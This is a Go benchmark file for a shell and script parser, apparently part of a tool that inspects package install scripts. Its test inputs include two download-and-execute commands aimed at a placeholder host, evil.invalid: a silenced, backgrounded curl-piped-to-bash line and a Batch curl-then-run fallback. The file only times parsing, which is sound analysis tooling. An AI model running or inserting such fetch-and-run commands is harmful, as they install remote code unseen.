package shell

import (
	"strings"
	"testing"
)

func BenchmarkParse(b *testing.B) {
	tests := []struct{ name, text string }{
		{"NodeFile", "node ./scripts/postinstall.js"},
		{"InlineCode", `node -e "try{require('./postinstall')}catch(e){}" || exit 0`},
		{"DownloadRun", `bash -c "$(curl -fsSL https://evil.invalid/i.sh)" >/dev/null 2>&1 &`},
		{"Fallback", `if exist a.js (node a.js) else (curl http://evil.invalid -o a & a)`},
		{"Script64K", strings.Repeat("if [ -f a ]; then node \"$X/a.js\" --flag | grep -q b && echo c; fi\n", MaxSource/68)},
		{"Brackets64K", strings.Repeat("(", maxOpeners)},
	}
	for _, test := range tests {
		b.Run(test.name, func(b *testing.B) {
			b.SetBytes(int64(len(test.text)))
			b.ReportAllocs()
			for b.Loop() {
				Parse(test.text)
			}
		})
	}
}

func BenchmarkParseScript(b *testing.B) {
	tests := []struct {
		language Language
		scripts  []scriptTest
	}{
		{LanguagePython, pythonLegitimate},
		{LanguagePowerShell, powerShellLegitimate},
		{LanguageBatch, batchLegitimate},
		{LanguageVBScript, vbScriptLegitimate},
	}
	for _, test := range tests {
		var text strings.Builder
		for text.Len() < MaxSource/2 {
			for _, s := range test.scripts {
				text.WriteString(s.text)
			}
		}
		b.Run(string(test.language), func(b *testing.B) {
			b.SetBytes(int64(text.Len()))
			b.ReportAllocs()
			for b.Loop() {
				ParseScript(test.language, text.String(), "a/x")
			}
		})
	}
}

func BenchmarkParseGyp(b *testing.B) {
	data := []byte(sampleGyp)
	b.SetBytes(int64(len(data)))
	b.ReportAllocs()
	for b.Loop() {
		if _, err := ParseGyp(data); err != nil {
			b.Fatal(err)
		}
	}
}
